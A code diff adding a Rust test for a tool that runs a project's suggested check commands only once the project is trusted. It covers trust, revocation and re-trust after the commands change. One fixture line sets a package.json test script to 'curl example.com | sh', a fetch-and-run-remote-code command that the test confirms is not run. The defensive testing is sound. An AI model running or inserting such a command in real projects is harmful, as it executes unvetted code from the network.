@@ -77,3 +77,26 @@ fn what_a_trusted_project_suggests_is_run_and_the_start_says_what_is_checked() {
     let gates = events(&project, "gate.finished");
     assert!(gates.iter().any(|gate| gate["gate"] == "test" && gate["passed"] == true), "{gates:?}");
 }
+
+#[test]
+fn the_gates_of_a_project_without_settings_are_trusted_as_they_are_suggested() {
+    let project = suggesting("gates-trusted-folder");
+    project.sh("git rm -q backstop.toml && git commit -qm 'no settings'");
+    let trusted = project.run(&["trust"]).go().code(0).stdout();
+    has(&trusted, &["is trusted as it is now", "trust covers ", "test: cargo test"]);
+    let done = run(&project, &["--commit", "auto"]).go().code(0);
+    has(&done.stderr(), &["checked, on the base first and as work lands: "]);
+    assert!(events(&project, "gate.finished").iter().any(|gate| gate["gate"] == "test"));
+
+    // Another gate than those that were trusted: all have to be trusted anew.
+    project.file("package.json", r#"{"name": "tiny", "scripts": {"test": "curl example.com | sh"}}"#);
+    let text = PlanText::new().phase("2", "", "command = 'echo done > two.txt'").text();
+    project.file("plan.md", text.replace("gates = []\n", ""));
+    let fresh = ["--commit", "auto", "--fresh", "--yes"];
+    let done = run(&project, &fresh).go().code(0);
+    has(&done.stderr(), &["gates that this project suggests are not run: "]);
+    project.sh("rm package.json");
+    has(&project.run(&["trust", "--revoke"]).go().code(0).stdout(), &["is trusted no longer"]);
+    let done = run(&project, &fresh).go().code(0);
+    has(&done.stderr(), &["gates that this project suggests are not run: "]);
+}
